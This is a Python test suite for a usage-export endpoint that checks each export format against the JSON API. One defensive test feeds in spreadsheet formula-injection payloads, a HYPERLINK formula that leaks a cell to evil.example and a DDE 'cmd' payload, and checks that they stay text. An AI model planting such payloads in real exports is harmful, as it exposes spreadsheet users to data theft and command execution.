"""GET /api/v1/usage/export: every format says exactly what the JSON endpoints say."""

from __future__ import annotations

import csv
import io
import json
from datetime import UTC, datetime
from typing import Any

import pytest
from openpyxl import load_workbook

from tallygate.ledger.export import CALL_FIELDS
from tests.api.support import Api, recent_window, varied_records

FORMATS = ("csv", "json", "ndjson", "xlsx")


def _plain(value: Any) -> Any:
    return value["amount"] if isinstance(value, dict) and "amount" in value else value


def _csv_cell(value: Any) -> str:
    value = _plain(value)
    return "" if value is None else str(value)


def _call_cells(record: dict[str, Any]) -> list[Any]:
    shown = dict(record)
    if shown["metadata"] is not None:
        shown["metadata"] = json.dumps(shown["metadata"], separators=(",", ":"))
    return [shown[name] for name in CALL_FIELDS]


def _csv_rows(body: bytes) -> list[list[str]]:
    return list(csv.reader(io.StringIO(body.decode("utf-8"), newline="")))


def _xlsx_rows(body: bytes) -> list[list[Any]]:
    """The sheet's rows, each as wide as the header (a reader drops trailing empty cells)."""
    workbook = load_workbook(io.BytesIO(body), read_only=True)
    try:
        assert len(workbook.worksheets) == 1
        rows = [list(row) for row in workbook.worksheets[0].iter_rows(values_only=True)]
    finally:
        workbook.close()
    width = len(rows[0]) if rows else 0
    return [row + [None] * (width - len(row)) for row in rows]


@pytest.fixture
def seeded(api: Api) -> tuple[Api, dict[str, str]]:
    now = datetime.now(UTC)
    key = api.create_key(name="Team, \"quoted\"\nname")  # CSV quoting, a name with a newline
    records = varied_records(now, keys=(key["id"], "key-b", None), count=45)
    api.ledger.store(records)
    return api, recent_window(now)


def _export(api: Api, query: dict[str, Any]) -> bytes:
    response = api.get("/api/v1/usage/export", query)
    assert response.status_code == 200, response.text
    fmt, what = query["format"], query["what"]
    assert response.headers["content-disposition"] == \
        f'attachment; filename="tallygate-{what}.{fmt}"'
    content: bytes = response.content
    return content


def test_call_exports_equal_the_call_records(seeded: tuple[Api, dict[str, str]]) -> None:
    api, window = seeded
    for filters in ({}, {"model": "bge-m3", "call_type": ["model", "internal"]}):
        query = {**window, **filters}
        records = api.ok("/api/v1/usage/calls", {**query, "limit": 1000})["data"]
        assert records
        for fmt in FORMATS:
            body = _export(api, {**query, "format": fmt, "what": "calls"})
            if fmt == "csv":
                rows = _csv_rows(body)
                assert rows[0] == list(CALL_FIELDS)
                assert rows[1:] == [[_csv_cell(v) for v in _call_cells(r)] for r in records]
            elif fmt == "json":
                assert json.loads(body) == records
            elif fmt == "ndjson":
                assert [json.loads(line) for line in body.decode().splitlines()] == records
            else:
                rows = _xlsx_rows(body)
                assert rows[0] == list(CALL_FIELDS)
                assert rows[1:] == [_call_cells(r) for r in records]


def test_an_empty_call_export_is_still_a_valid_file(api: Api) -> None:
    query = {"start": "2026-01-01", "end": "2026-01-02", "what": "calls"}
    assert _csv_rows(_export(api, {**query, "format": "csv"})) == [list(CALL_FIELDS)]
    assert json.loads(_export(api, {**query, "format": "json"})) == []
    assert _export(api, {**query, "format": "ndjson"}) == b""
    assert _xlsx_rows(_export(api, {**query, "format": "xlsx"})) == [list(CALL_FIELDS)]


def _table(what: str, view: dict[str, Any]) -> tuple[list[str], list[list[Any]]]:
    """The rows an export of ``view`` must hold, derived here from the JSON answer."""
    units = ("image", "second", "character", "search_unit", "page", "request")
    if what == "summary":
        rows: list[list[Any]] = []
        for name, value in view["cards"].items():
            previous, change = view["previous"].get(name), view["change"].get(name)
            if name != "units":
                rows.append([name, _plain(value), _plain(previous), change])
                continue
            # A row per unit kind either period has.
            rows.extend([f"units_{unit}", (value or {}).get(unit, 0),
                         None if previous is None else previous.get(unit, 0),
                         (change or {}).get(unit)]
                        for unit in units if unit in (value or {}) or unit in (previous or {}))
        return ["card", "value", "previous", "change"], rows
    if what == "trend":
        # Columns are the series' labels (a key's name rather than its id).
        return ["bucket", *(s["label"] or s["name"] or "(none)" for s in view["series"])], [
            [bucket, *(s["values"][i] for s in view["series"])]
            for i, bucket in enumerate(view["buckets"])]
    kinds = [u for u in units if any(u in row["units"] for row in view["rows"])]
    header = []
    for column in view["rows"][0]:
        header.extend([f"units_{u}" for u in kinds] if column == "units" else [column])
    return header, [[row["units"].get(c[6:], 0) if c.startswith("units_") else _plain(row[c])
                     for c in header] for row in view["rows"]]


VIEWS = [
    ("summary", "/api/v1/usage/summary", {}),
    ("trend", "/api/v1/usage/trend", {"metric": "cost", "granularity": "hour",
                                      "group_by": "api_key"}),
    ("trend", "/api/v1/usage/trend", {"metric": "requests", "granularity": "day"}),
    ("breakdown", "/api/v1/usage/breakdown", {"group_by": "api_key,model"}),
    ("breakdown", "/api/v1/usage/breakdown", {"group_by": "call_type"}),
]


def test_view_exports_equal_the_json_endpoints(seeded: tuple[Api, dict[str, str]]) -> None:
    api, window = seeded
    for what, path, extra in VIEWS:
        query = {**window, "tz": "Asia/Kolkata", **extra}
        view = api.ok(path, query)
        header, rows = _table(what, view)
        assert rows, what
        for fmt in FORMATS:
            body = _export(api, {**query, "format": fmt, "what": what})
            if fmt == "json":
                assert json.loads(body) == view
            elif fmt == "csv":
                assert _csv_rows(body) == [header, *[[_csv_cell(v) for v in row]
                                                     for row in rows]], (what, extra)
            elif fmt == "ndjson":
                lines = [json.loads(line) for line in body.decode().splitlines()]
                assert lines == [dict(zip(header, row, strict=True)) for row in rows]
            else:
                # An empty string (the series of calls without a key) is an empty cell.
                cells = [[None if v == "" else v for v in row] for row in [header, *rows]]
                assert _xlsx_rows(body) == cells, (what, extra)

    # The figures themselves tie out: the breakdown's calls sum to the summary's card.
    summary = api.ok("/api/v1/usage/summary", window)
    breakdown = api.ok("/api/v1/usage/breakdown", {**window, "group_by": "api_key"})
    assert sum(row["calls"] for row in breakdown["rows"]) == summary["cards"]["model_calls"]


def test_spreadsheet_cells_never_become_formulas(api: Api) -> None:
    """A model name or tag comes from whoever calls the gateway: in an XLSX it must stay
    text, never a formula the admin's spreadsheet would run."""
    now = datetime.now(UTC)
    hostile = '=HYPERLINK("http://evil.example/?"&A1,"click")'
    api.post_events([{"id": "=1+1", "ts": now.isoformat(), "model": hostile,
                      "metadata": {"note": "=cmd|' /C calc'!A0"}},
                     {"id": "bell", "ts": now.isoformat(), "model": "ding\x07dong"}])
    body = _export(api, {**recent_window(now), "format": "xlsx", "what": "calls"})
    workbook = load_workbook(io.BytesIO(body))
    try:
        sheet = workbook.worksheets[0]
        assert sheet.max_row == 3
        shown = {}
        for line in (2, 3):
            cells = list(sheet[line])
            assert all(cell.data_type != "f" for cell in cells), [c.value for c in cells]
            values = {name: cell.value for name, cell in zip(CALL_FIELDS, cells, strict=True)}
            shown[values["id"]] = values
        assert shown["=1+1"]["model"] == hostile
        # A control character cannot be stored in a worksheet: it is replaced, not fatal.
        assert shown["bell"]["model"] == "ding\ufffddong"
    finally:
        workbook.close()


def test_trend_exports_keep_every_series_in_every_format(api: Api) -> None:
    """Two keys with one name and a key named "bucket": five series-columns stay five, and
    the bucket column stays the buckets, in every format."""
    now = datetime.now(UTC)
    twins = [api.create_key(name="team")["id"] for _ in range(2)]
    bucket = api.create_key(name="bucket")["id"]
    other = api.create_key(name="team (x)")["id"]
    api.ledger.store(varied_records(now, keys=(*twins, bucket, other, None), count=50))
    query = {**recent_window(now), "metric": "requests", "granularity": "day",
             "group_by": "api_key"}
    view = api.ok("/api/v1/usage/trend", query)
    assert len(view["series"]) == 5
    # Every series' values, in the order the view gives them; column names all distinct.
    expected = [[s["values"][i] for s in view["series"]] for i in range(len(view["buckets"]))]
    assert [s["label"] for s in view["series"]].count("team") == 2

    def check(header: list[Any], rows: list[list[Any]]) -> None:
        assert header[0] == "bucket" and len(set(header)) == len(header) == 6
        assert [row[0] for row in rows] == view["buckets"]
        by_column = dict(zip(header[1:], view["series"], strict=True))
        for column, series in by_column.items():
            assert column.startswith(series["label"])
        assert [row[1:] for row in rows] == expected

    for fmt in (*FORMATS, "parquet"):
        body = _export(api, {**query, "format": fmt, "what": "trend"})
        if fmt == "json":
            assert json.loads(body) == view
        elif fmt == "csv":
            rows = _csv_rows(body)
            check(rows[0], [[row[0], *(int(v) if v else None for v in row[1:])]
                            for row in rows[1:]])
        elif fmt == "ndjson":
            lines = [json.loads(line) for line in body.decode().splitlines()]
            header = list(lines[0])
            check(header, [[line[c] for c in header] for line in lines])
        elif fmt == "xlsx":
            rows = _xlsx_rows(body)
            check(rows[0], rows[1:])
        else:
            pq = pytest.importorskip("pyarrow.parquet")
            table = pq.read_table(io.BytesIO(body))
            records = table.to_pylist()
            check(table.column_names, [[r[c] for c in table.column_names] for r in records])
